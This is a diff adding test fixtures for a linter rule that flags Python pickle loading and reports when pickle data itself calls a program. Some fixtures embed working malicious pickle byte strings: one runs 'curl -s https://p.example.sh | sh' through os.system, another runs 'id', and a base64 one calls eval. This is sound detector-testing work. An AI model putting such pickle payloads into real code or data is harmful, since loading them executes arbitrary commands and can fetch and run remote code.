@@ -33,6 +33,49 @@ ruleTester(rule, {
       errors: [{ messageId: 'pickle', line: 2, column: 7, severity: 'high', category: 'dynamic-code' }],
     },
     { code: 'import pickle\nwith open("cache.pkl", "rb") as f:\n    obj = pickle.load(f)', errors: [{ messageId: 'pickle', line: 3 }] },
+    // The stream itself names what it calls: reported where the data is written, in that category.
+    {
+      code: 'import pickle\n\nSTATE = b"cos\\nsystem\\n(S\'curl -s https://p.example.sh | sh\'\\ntR."\n\ndef restore():\n    return pickle.loads(STATE)',
+      errors: [
+        {
+          messageId: 'picklePayload',
+          line: 3,
+          column: 9,
+          severity: 'high',
+          category: 'process',
+          message:
+            'This pickle data calls `os.system("curl -s https://p.example.sh | sh")` when `pickle.loads` loads it: the "data" is a program.',
+        },
+        { messageId: 'pickle', line: 6 },
+      ],
+    },
+    {
+      // Protocol 4: SHORT_BINUNICODE module and name, then STACK_GLOBAL; `posix` is `os`.
+      code: "import pickle\nobj = pickle.loads(b'\\x80\\x04\\x95\\x1f\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x8c\\x05posix\\x94\\x8c\\x06system\\x94\\x93\\x94\\x8c\\x02id\\x94\\x85\\x94R\\x94.')",
+      errors: [
+        { messageId: 'pickle', line: 2 },
+        {
+          messageId: 'picklePayload',
+          line: 2,
+          column: 20,
+          category: 'process',
+          message: 'This pickle data calls `os.system("id")` when `pickle.loads` loads it: the "data" is a program.',
+        },
+      ],
+    },
+    {
+      // A pickle of plain data names only classes that rebuild data: the loader's flag alone.
+      code: "import pickle\nobj = pickle.loads(b'\\x80\\x04\\x95\\x8c\\x0bcollections\\x94\\x8c\\x0bOrderedDict\\x94\\x93\\x94)R\\x94.')",
+      errors: [{ messageId: 'pickle', line: 2 }],
+    },
+    {
+      // Decoded first: the flag lands on the decode of the literal.
+      code: "import base64, pickle\nobj = pickle.loads(base64.b64decode('Y2J1aWx0aW5zCmV2YWwKKFMnMSsxJwp0Ui4='))",
+      errors: [
+        { messageId: 'pickle', line: 2 },
+        { messageId: 'picklePayload', line: 2, column: 20, category: 'dynamic-code' },
+      ],
+    },
     { code: 'import pickle as pkl\nobj = pkl.load(f)', errors: [{ messageId: 'pickle' }] },
     { code: 'from pickle import loads\nobj = loads(data)', errors: [{ messageId: 'pickle' }] },
     { code: 'from pickle import loads as unpack\nobj = unpack(data)', errors: [{ messageId: 'pickle' }] },
